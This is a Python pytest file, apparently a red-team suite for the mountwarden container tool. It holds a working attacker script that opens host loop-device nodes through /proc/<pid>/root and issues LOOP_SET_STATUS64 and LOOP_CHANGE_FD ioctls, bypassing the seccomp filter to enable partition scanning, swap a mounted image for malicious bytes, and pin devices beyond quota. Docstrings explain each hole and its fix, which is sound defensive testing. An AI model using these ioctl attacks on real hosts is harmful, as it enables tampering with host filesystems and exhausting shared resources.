"""Seventh red-team pass: ordinary host users after the node-disowning fix (issue 11).

The attacker is an ordinary host account U running `mountwarden run --control-socket`: its
container's root is U itself, so U's own processes outside the container (unfiltered, in a
cgroup that allows every device) reach the pool's nodes through /proc/<pid>/root and may open
them (mode 0660, owner U). Each hole found is a test that asserts the safe behaviour and is
marked xfail (strict) until fixed, its docstring saying what is wrong and the fix; attacks that
failed stay as guards.
"""

from __future__ import annotations

import os
import pwd
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import oci
import pytest
import yaml
from conftest import build_image, make_tree, write_policy
from test_redteam6 import CHAT, _bound, _user_popen, _wait
from test_unprivileged import ordinary_user, place  # noqa: F401 - fixtures

# The attacker's process outside its container. argv: the chat directory, the node's name under
# /dev/.mountwarden, what to do with it, and an argument. It finds the node through the root of
# any process of its own, opens it (no O_PATH: a real open, which the device cgroup of its own
# session allows) and issues loop ioctls that no seccomp filter sees.
OUTSIDE = CHAT + r"""
import fcntl, stat, struct
LOOP_SET_STATUS64, LOOP_GET_STATUS64, LOOP_CHANGE_FD = 0x4C04, 0x4C05, 0x4C06
LO_FLAGS_AUTOCLEAR, LO_FLAGS_PARTSCAN = 4, 8
node, what, arg = sys.argv[2:5]
path = None
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    candidate = f"/proc/{pid}/root/dev/.mountwarden/{node}"
    try:
        st = os.stat(candidate)
    except OSError:
        continue
    if stat.S_ISBLK(st.st_mode) and os.major(st.st_rdev) == 7:
        path = candidate
        break
if path is None:
    say("result", "no node")
    sys.exit(0)
minor = os.minor(os.stat(path).st_rdev)
def set_flags(fd, add, remove):
    info = bytearray(232)  # struct loop_info64; lo_flags at offset 52
    fcntl.ioctl(fd, LOOP_GET_STATUS64, info, True)
    flags = (struct.unpack_from("<I", info, 52)[0] | add) & ~remove
    struct.pack_into("<I", info, 52, flags)
    fcntl.ioctl(fd, LOOP_SET_STATUS64, bytes(info))
try:
    if what == "partscan":
        fd = os.open(path, os.O_RDWR)
        set_flags(fd, LO_FLAGS_PARTSCAN, 0)
        os.close(fd)
        say("result", f"done {minor}")
    elif what == "change-fd":
        fd = os.open(path, os.O_RDONLY)
        new = os.open(arg, os.O_RDONLY)
        fcntl.ioctl(fd, LOOP_CHANGE_FD, new)
        os.close(new)
        os.close(fd)
        say("result", f"done {minor}")
    elif what == "no-autoclear":
        fd = os.open(path, os.O_RDWR)
        set_flags(fd, 0, LO_FLAGS_AUTOCLEAR)
        os.close(fd)
        say("result", f"done {minor}")
    elif what == "pin":
        fd = os.open(path, os.O_RDONLY)
        say("result", f"done {minor}")
        wait("end")
except OSError as exc:
    say("result", f"denied {exc.errno}")
"""


def run_attack(
    user: pwd.struct_passwd, where: Path, tmp_path: Path, rules: list[dict[str, object]], name: str, script: str,
    outside: str, argv: list[str], during: Callable[[str], Any] | None = None,
    after: Callable[[str], Any] | None = None,
) -> tuple[str, str, Any]:  # fmt: skip
    """Run `script` ({chat} filled in) in U's container, served by root's serve under `rules`; once
    it touched {chat}/ready, run the script `outside` as U with `argv` after the chat directory,
    wait for its {chat}/result, then touch {chat}/go. `during` runs with that result before
    {chat}/go, `after` with it once the container has been released, while the outside process
    lives. Returns the outside process's result, the container's output and what the last hook
    returned."""
    chat = where / "chat"
    chat.mkdir(mode=0o755)
    os.chown(chat, user.pw_uid, user.pw_gid)
    (where / "outside.py").write_text(outside)
    policy = write_policy(tmp_path / "users.yaml", rules)
    result, output, seen = "", "", None
    with oci.serving(tmp_path, policy, control=where / "control.sock") as serve:
        run = _user_popen(user, *oci.mountwarden_argv(), "run", "--name", name, "--control-socket",
                          str(where / "control.sock"), "--", "/bin/sh", "-c", script.format(chat=chat))  # fmt: skip
        lurker = None
        try:
            _wait(lambda: (chat / "ready").exists() or run.poll() is not None, "the container")
            assert (chat / "ready").exists(), run.communicate()
            lurker = _user_popen(user, "/usr/bin/python3", str(where / "outside.py"), str(chat), *argv)
            _wait(lambda: (chat / "result").exists(), "the outside process")
            result = (chat / "result").read_text()
            if during is not None:
                seen = during(result)
            (chat / "go").touch()
            output = run.communicate(timeout=60)[0]
            if after is not None:
                serve.wait_for("container-released")
                seen = after(result)
        finally:
            for mark in ("go", "end"):
                (chat / mark).touch()
            if lurker is not None:
                lurker.wait(timeout=30)
            if run.poll() is None:
                run.kill()
            run.wait(timeout=60)
    return result, output, seen


def _attack(
    user: pwd.struct_passwd, where: Path, tmp_path: Path, rules: list[dict[str, object]], name: str,
    script: str, outside: list[str], during: str = "", after: str = "",
) -> tuple[str, str, int]:  # fmt: skip
    """run_attack with this file's OUTSIDE script, whose result names the host minor it reached;
    `during` and `after` are shell lines run as root with {minor}, their output added to the
    container's. Returns the host minor too (-1 if none)."""

    def minor(result: str) -> int:
        return int(result.split()[1]) if result.startswith("done") else -1

    def shell(line: str) -> Callable[[str], str] | None:
        if not line:
            return None
        return lambda result: _host(line.format(minor=minor(result))) if minor(result) >= 0 else ""

    result, output, seen = run_attack(
        user, where, tmp_path, rules, name, script, OUTSIDE, outside, during=shell(during), after=shell(after)
    )
    return result, output + (seen or ""), minor(result)


def _host(line: str) -> str:
    return subprocess.run(["sh", "-c", line], capture_output=True, text=True, check=False).stdout


def _mbr_image(path: Path, owner: pwd.struct_passwd) -> None:
    """4 MiB with one MBR partition (type 83, sectors 2048-6143): what a partition scan would find."""
    data = bytearray(4 << 20)
    entry = 446
    data[entry + 4] = 0x83
    data[entry + 8 : entry + 12] = (2048).to_bytes(4, "little")
    data[entry + 12 : entry + 16] = (4096).to_bytes(4, "little")
    data[510:512] = b"\x55\xaa"
    path.write_bytes(bytes(data))
    os.chown(path, owner.pw_uid, owner.pw_gid)


WAIT_GO = "while [ ! -e {chat}/go ]; do sleep 0.05; done"


@pytest.mark.xfail(strict=True, reason="U sets LO_FLAGS_PARTSCAN on a host device from outside the filter")
def test_partition_scanning_is_never_set_on_a_host_device_from_outside(
    ordinary_user: pwd.struct_passwd,  # noqa: F811 - a fixture
    place: Path,  # noqa: F811 - a fixture
    tmp_path: Path,
) -> None:
    """Hole: the pool promises LO_FLAGS_PARTSCAN is never set on a host device (the host's
    partition parsers and udev rules would run on the container's bytes), and answers the
    container's LOOP_SET_STATUS64 itself. But the kernel asks nothing of LOOP_SET_STATUS64 but an
    fd open for writing, and U opens /dev/.mountwarden/loopN (0660, its own) from a process of its
    own outside the container, which no seccomp filter sees (so could any fd of the container's,
    taken with pidfd_getfd or sent over a socket). The host then scans and shows loopXp1.

    Fix: U must never hold an unfiltered fd of a host loop device, since the kernel gates every
    loop ioctl (LOOP_SET_STATUS64, LOOP_CHANGE_FD, LOOP_CLR_FD, LOOP_SET_CAPACITY/BLOCK_SIZE/
    DIRECT_IO) on the open alone. Give the container a node of a device whose ioctls need host
    privilege instead: a device-mapper linear target over the loop device that is one sector
    shorter than it (dm_blk_ioctl then forwards ioctls only to CAP_SYS_RAWIO, linear_prepare_ioctl
    returns 1) or, where the kernel has the BPF LSM, a file_ioctl program serve attaches that
    refuses loop ioctls (0x4C00-0x4CFF) on the pool's host devices to every task but serve's.

    (This machine's kernel finds no partition even in `losetup -P` of the image by host root, so
    the test reads the flag, /sys/block/loopX/loop/partscan, not the partitions.)"""
    image = place / "parted.img"
    _mbr_image(image, ordinary_user)
    script = f"losetup /dev/loop0 {image} && touch {{chat}}/ready; {WAIT_GO}; losetup -d /dev/loop0"
    during = "cat /sys/block/loop{minor}/loop/partscan"
    result, output, _ = _attack(
        ordinary_user, place, tmp_path, [], "rt7-partscan", script, ["loop0", "partscan", "-"], during=during
    )
    assert output.split() in (["0"], []), f"outside: {result}; the host device's partscan: {output}"


def test_the_kernel_mounts_only_the_file_the_policy_judged(
    ordinary_user: pwd.struct_passwd,  # noqa: F811 - a fixture
    place: Path,  # noqa: F811 - a fixture
    tmp_path: Path,
) -> None:
    """Hole (fixed): a rule lets U's container kernel-mount one trusted image (host root's,
    read-only to U). The container binds it read-only; U's process outside the container opens
    the node (read access is enough) and calls LOOP_CHANGE_FD with a file of its own of the same
    size: the kernel allows that on any read-only loop device to whoever has it open, no
    capability asked. The container's `mount /dev/loop0` was served as the trusted image while
    the host's ext4 driver parsed U's bytes.

    Fixed: in an ordinary user's container a kernel mount is made from a private host device
    bound to the file the pool judged (LoopPool.mount_device), which has no node anywhere: the
    swap changes only what the container reads through /dev/loop0 itself."""
    evil_tree = make_tree(tmp_path / "evil", {"pub.txt": "EVIL\n"})
    evil = build_image("ext4", evil_tree, place / "evil.ext4")
    os.chown(evil, ordinary_user.pw_uid, ordinary_user.pw_gid)
    rules = [{"name": "trusted-image", "containers": {"host_uid": [ordinary_user.pw_uid]},
              "match": {"source": f"{place}/data.ext4", "target": "/**"}, "action": "kernel"}]  # fmt: skip
    script = (
        f"losetup -r /dev/loop0 {place}/data.ext4 && touch {{chat}}/ready; {WAIT_GO}; "
        "mount -o ro /dev/loop0 /mnt && cat /mnt/pub.txt && umount /mnt; losetup -d /dev/loop0"
    )
    result, output, _ = _attack(
        ordinary_user, place, tmp_path, rules, "rt7-changefd", script, ["loop0", "change-fd", str(evil)]
    )
    assert output.split() == ["public"], f"outside: {result}; the container read: {output}"


@pytest.mark.parametrize(
    ("node", "what", "script"),
    [
        pytest.param(
            "loop0", "no-autoclear",
            "losetup /dev/loop0 {image} && touch {chat}/ready; " + WAIT_GO + "; losetup -d /dev/loop0",
            id="autoclear cleared",
        ),  # fmt: skip
    ],
)
def test_a_containers_end_leaves_no_host_loop_device_bound(
    ordinary_user: pwd.struct_passwd,  # noqa: F811 - a fixture
    place: Path,  # noqa: F811 - a fixture
    tmp_path: Path,
    node: str,
    what: str,
    script: str,
) -> None:
    """Hole: U's process outside the container kept host loop devices bound after the container
    ended, beyond any limit (the placeholder case: test_pinned_placeholders_count_against_the_users_quota):

    * placeholder held open: a free slot's node is the pool's placeholder, a host device bound to
      an empty memfd with no quota ticket. U opens it from outside and keeps the fd; the pool
      closes its own, the kernel keeps the device bound for U. One device per container U starts,
      none counted: U repeats `run` and pins as many host loop devices as it likes.
    * autoclear cleared: U's process clears LO_FLAGS_AUTOCLEAR (LOOP_SET_STATUS64 on a node it may
      write) of a device its container bound; when the container clears it the pool only closes
      its fd, so the device stays bound to U's file for good, with nobody left to open it (the node
      is disowned). Its quota ticket is never returned either (Session.close logs it stuck, the
      pool is dropped with the ticket's fd open in serve): U's share is gone until serve restarts,
      and then the devices are still bound.

    Fixed for autoclear: LoopDevice.close sets it again (LOOP_CLR_FD) before the pool lets go
    (a process racing that call can still clear it in between: a known limit). Fixed for the
    placeholder: in an ordinary user's container it takes a ticket of the user's quota, which
    lingers while the device stays bound.

    Fix: the placeholder must not be per container, nor U's to hold: one placeholder for the
    whole of serve (bound read-only to an empty memfd at start), or, better, the same remedy as for
    the ioctls (no unfiltered fd of a pool device in U's hands: dm linear nodes). For autoclear:
    before closing a released device's fd, the pool calls LOOP_CLR_FD itself (which sets autoclear
    again and detaches at the last close) and re-checks the flag; retired devices whose binding
    outlives the session keep being watched (and their tickets released) by serve, not dropped."""
    image = place / "mine.img"
    image.write_bytes(bytes(1 << 20))
    os.chown(image, ordinary_user.pw_uid, ordinary_user.pw_gid)
    after = "sleep 1; cat /sys/block/loop{minor}/loop/backing_file 2>/dev/null || echo detached"
    minor = -1
    try:
        result, output, minor = _attack(
            ordinary_user, place, tmp_path, [], f"rt7-{what}", script.replace("{image}", str(image)),
            [node, what, "-"], after=after,
        )  # fmt: skip
    finally:
        if minor >= 0 and _bound(minor):
            subprocess.run(["losetup", "-d", f"/dev/loop{minor}"], check=False)
    assert result.startswith("done") and output.split()[-1] == "detached", f"outside: {result}; then: {output}"


def test_pinned_placeholders_count_against_the_users_quota(
    ordinary_user: pwd.struct_passwd,  # noqa: F811 - a fixture
    place: Path,  # noqa: F811 - a fixture
    tmp_path: Path,
) -> None:
    """U holds the free slots' placeholder of each container it starts open from outside, and
    the kernel keeps each bound past its container's end. The placeholder of an ordinary user's
    container is one of U's loop devices (a ticket of its quota, lingering while the device is
    bound), so with a quota of 2, the third container is refused, and starts once U lets go."""
    chat = place / "chat"
    chat.mkdir(mode=0o755)
    os.chown(chat, ordinary_user.pw_uid, ordinary_user.pw_gid)
    (place / "outside.py").write_text(OUTSIDE)
    policy = tmp_path / "users.yaml"
    policy.write_text(yaml.safe_dump({"version": 1, "limits": {"loop_devices_per_host_uid": 2}, "rules": []}))
    pinners: list[subprocess.Popen[str]] = []
    pinned: list[int] = []

    def run(name: str, pin: bool = True) -> subprocess.CompletedProcess[str]:
        script = f"touch {chat}/ready-{name}; while [ ! -e {chat}/go-{name} ]; do sleep 0.05; done"
        argv = [*oci.mountwarden_argv(), "run", "--name", name, "--control-socket", str(place / "control.sock"),
                "--", "/bin/sh", "-c", script]  # fmt: skip
        proc = _user_popen(ordinary_user, *argv)
        try:
            _wait(lambda: (chat / f"ready-{name}").exists() or proc.poll() is not None, f"container {name}")
            if pin and (chat / f"ready-{name}").exists():
                (chat / "result").unlink(missing_ok=True)
                pinner = _user_popen(ordinary_user, "/usr/bin/python3", str(place / "outside.py"), str(chat), "loop1",
                                     "pin", "-")  # fmt: skip
                pinners.append(pinner)
                _wait(lambda: (chat / "result").exists(), "the pin")
                result = (chat / "result").read_text()
                assert result.startswith("done"), result
                pinned.append(int(result.split()[1]))
                (chat / f"go-{name}").touch()
            out, err = proc.communicate(timeout=60)
        finally:
            (chat / f"go-{name}").touch()
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)

    try:
        with oci.serving(tmp_path, policy, control=place / "control.sock"):
            assert run("rt7-pin1").returncode == 0
            assert run("rt7-pin2").returncode == 0
            refused = run("rt7-pin3")
            assert refused.returncode != 0 and "limit of 2 loop devices" in refused.stderr, refused
            (chat / "end").touch()
            for pinner in pinners:
                pinner.wait(timeout=30)
            _wait(lambda: not any(_bound(n) for n in pinned), "the pinned placeholders detached")
            (chat / "go-rt7-pin4").touch()
            assert run("rt7-pin4", pin=False).returncode == 0
    finally:
        (chat / "end").touch()
        for pinner in pinners:
            if pinner.poll() is None:
                pinner.kill()
            pinner.wait()
        _wait(lambda: not any(_bound(n) for n in pinned), "the pinned placeholders detached")
